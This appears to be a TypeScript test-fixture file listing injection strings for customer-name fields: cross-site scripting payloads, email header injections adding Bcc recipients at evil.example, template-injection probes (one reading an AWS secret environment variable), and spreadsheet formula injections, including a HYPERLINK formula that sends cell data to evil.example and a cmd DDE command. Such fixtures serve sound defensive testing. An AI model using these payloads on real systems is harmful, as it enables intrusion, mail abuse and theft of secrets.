/** Texts that somebody would put into a name to make a page, a mail, a header, a template or a spreadsheet run them. */

export const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</td></tr></table><h1>Paid in full</h1>',
  '<!-- ',
  ' --><a href="https://evil.example">Pay here</a>',
  '<![endif]--><b>bold</b>',
  ']]><svg/onload=alert(1)>',
  '&lt;b&gt;&#60;i&#62;',
  '\u202e<b>\u2066exe.gpj',
  'javascript:alert(1)',
  '\u0000<\u0000script>',
] as const;

export const HEADERS = [
  'Acme\r\nBcc: everyone@evil.example',
  'Acme\nSubject: Paid',
  'Acme\r\n\r\n<h1>another body</h1>',
  'Acme\u0085Bcc: x@evil.example',
  'Acme\u2028Bcc: x@evil.example',
  'Acme"\r\nTo: x@evil.example',
  'Acme\u0000\rX: y',
  '=?UTF-8?Q?=0D=0ABcc:_x@evil.example?=',
] as const;

/** Every one is 49, a process, a prototype or a secret in some language of templates; here each is a text like any other. */
export const TEMPLATES = [
  '{{7*7}}',
  '{{constructor.constructor("return process")()}}',
  '{{__proto__.polluted}}',
  '{% for x in customers %}{{x.name}}{% endfor %}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a template is what is tried.
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above.
  '${process.env.AWS_SECRET_ACCESS_KEY}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{customer.contacts}}',
  '%s %d %o %j',
  "$& $1 $` $' $$",
] as const;

export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "=cmd|'/c calc'!A1",
  '+1',
  '-1',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff201',
  '"=1',
  'Acme;=1+1',
  'Acme; "=1+1"',
  'Acme;\t@SUM(A1)',
  'Acme,=1+1',
  'Acme"\r\n"=1+1',
] as const;
